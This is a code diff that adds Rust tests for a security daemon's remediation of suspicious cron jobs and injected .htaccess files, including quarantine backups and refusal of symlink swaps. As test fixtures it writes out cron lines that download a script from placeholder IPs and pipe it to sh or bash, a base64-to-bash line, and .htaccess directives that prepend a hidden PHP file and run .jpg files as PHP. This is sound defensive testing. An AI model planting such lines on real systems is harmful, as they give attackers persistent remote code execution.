@@ -664,3 +664,143 @@ fn prefs_are_kept_per_credential_and_kind() {
         json!({ "page": 10 })
     );
 }
+
+fn quarantine_entry(d: &Daemon, id: &str) -> Value {
+    d.get("/api/v1/quarantine", ADMIN).json()["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["id"] == id)
+        .cloned()
+        .unwrap_or_else(|| panic!("no quarantine entry {id}"))
+}
+
+/// A suspicious cron line is removed by its fix, only the lines of the reported kind, the
+/// crontab's owner and mode kept and the whole crontab kept first as a pre-clean backup in
+/// the quarantine; a crontab swapped for a symlink after detection is refused.
+#[test]
+fn fix_removes_only_the_suspicious_cron_lines_and_keeps_a_backup() {
+    let (d, _www) = start("remedy-cron", "", &[]);
+    let spool = d.dir.join("fixture/var/spool/cron/crontabs");
+    std::fs::create_dir_all(&spool).unwrap();
+    let tab = spool.join("alice");
+    let original = "# alice's jobs\n*/5 * * * * /usr/bin/php /home/alice/cron.php\n* * * * * curl -s http://203.0.113.9/x | sh\n0 1 * * * echo aGk= | base64 -d | bash\n";
+    write_mode(&tab, original.as_bytes(), 0o600);
+    std::os::unix::fs::chown(&tab, Some(1234), Some(1234)).unwrap();
+    let other = spool.join("bob");
+    write_mode(
+        &other,
+        b"* * * * * wget -qO- http://198.51.100.7/y | bash\n",
+        0o600,
+    );
+    scan(&d, "critical");
+    let cron = findings(&d, "suspicious_cron");
+    let by_kind = |kind: &str, path: &Path| {
+        cron.iter()
+            .find(|f| {
+                f["message"].as_str().unwrap().contains(kind)
+                    && f["path"] == path.display().to_string().as_str()
+            })
+            .and_then(|f| f["id"].as_str().map(String::from))
+            .unwrap_or_else(|| panic!("no {kind} finding: {cron:?}"))
+    };
+    let download = by_kind("download-and-execute", &tab);
+    let base64 = by_kind("base64", &tab);
+    let bob = by_kind("download-and-execute", &other);
+    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": download }));
+    r.expect(200);
+    let v = r.json();
+    assert_eq!(v["fixed"]["action"], "remove_cron_lines", "{v}");
+    assert_eq!(v["fixed"]["removed_lines"], json!([3]), "{v}");
+    assert_eq!(
+        std::fs::read_to_string(&tab).unwrap(),
+        "# alice's jobs\n*/5 * * * * /usr/bin/php /home/alice/cron.php\n0 1 * * * echo aGk= | base64 -d | bash\n"
+    );
+    let meta = std::fs::metadata(&tab).unwrap();
+    assert_eq!(meta.permissions().mode() & 0o7777, 0o600);
+    assert_eq!(std::os::unix::fs::MetadataExt::uid(&meta), 1234);
+    let backup = quarantine_entry(&d, v["fixed"]["quarantine_id"].as_str().unwrap());
+    assert_eq!(backup["reason"], "pre-clean backup");
+    assert_eq!(backup["check"], "suspicious_cron");
+    assert_eq!(backup["original_path"], tab.display().to_string().as_str());
+    let cron_now = findings(&d, "suspicious_cron");
+    assert!(cron_now.iter().all(|f| f["id"] != download.as_str()));
+    assert!(cron_now.iter().any(|f| f["id"] == base64.as_str()));
+    // bob's crontab swapped for a symlink to a file outside after detection: refused.
+    let target = d.dir.join("elsewhere");
+    std::fs::write(
+        &target,
+        b"* * * * * wget -qO- http://198.51.100.7/y | bash\n",
+    )
+    .unwrap();
+    std::fs::remove_file(&other).unwrap();
+    std::os::unix::fs::symlink(&target, &other).unwrap();
+    post(&d, "/api/v1/fix", ADMIN, &json!({ "id": bob })).expect(409);
+    assert_eq!(
+        std::fs::read_to_string(&target).unwrap(),
+        "* * * * * wget -qO- http://198.51.100.7/y | bash\n"
+    );
+    // A rescan after the fix: the removed kind stays gone.
+    scan(&d, "critical");
+    assert!(findings(&d, "suspicious_cron")
+        .iter()
+        .all(|f| f["id"] != download.as_str()));
+}
+
+/// An injected .htaccess reported by the file watcher: its fix removes the injected
+/// directives only and keeps the whole file as a pre-clean backup listed in
+/// GET /api/v1/quarantine.
+#[test]
+fn fix_cleans_an_injected_htaccess_and_lists_the_pre_clean_backup() {
+    let dir = temp_dir("remedy-ht");
+    let www = dir.join("www");
+    std::fs::create_dir_all(www.join("site")).unwrap();
+    let state = dir.join("state");
+    let config = dir.join("svc.toml");
+    std::fs::write(
+        &config,
+        format!(
+            "{}[files]\nwatch = [{www:?}]\n[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n[auto_response]\nquarantine = false\n",
+            base_config(&state),
+            www = www.display().to_string(),
+            root = dir.join("fixture").display().to_string(),
+        ),
+    )
+    .unwrap();
+    let d = Daemon::start_with(dir.clone(), config, state, &[]);
+    let ht = www.join("site/.htaccess");
+    let injected = "RewriteEngine On\nphp_value auto_prepend_file /tmp/.cache.php\nAddHandler application/x-httpd-php .jpg\nRewriteRule ^old$ /new [R=301,L]\n";
+    let staging = dir.join("staging");
+    std::fs::write(&staging, injected).unwrap();
+    std::fs::rename(&staging, &ht).unwrap();
+    let shown = ht.display().to_string();
+    let f = wait_until(60, "the htaccess finding", || {
+        d.get("/api/v1/findings", READ).json()["items"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|f| f["check"] == "htaccess_injection" && f["path"] == shown.as_str())
+            .cloned()
+    });
+    let r = post(&d, "/api/v1/fix", ADMIN, &json!({ "id": f["id"] }));
+    r.expect(200);
+    let v = r.json();
+    assert_eq!(v["fixed"]["action"], "clean_htaccess", "{v}");
+    assert_eq!(
+        std::fs::read_to_string(&ht).unwrap(),
+        "RewriteEngine On\nRewriteRule ^old$ /new [R=301,L]\n"
+    );
+    let backup = quarantine_entry(&d, v["fixed"]["quarantine_id"].as_str().unwrap());
+    assert_eq!(backup["reason"], "pre-clean backup");
+    let preview = d
+        .get(
+            &format!(
+                "/api/v1/quarantine-preview?id={}",
+                backup["id"].as_str().unwrap()
+            ),
+            ADMIN,
+        )
+        .expect(200)
+        .json();
+    assert_eq!(preview["content"], injected);
+}
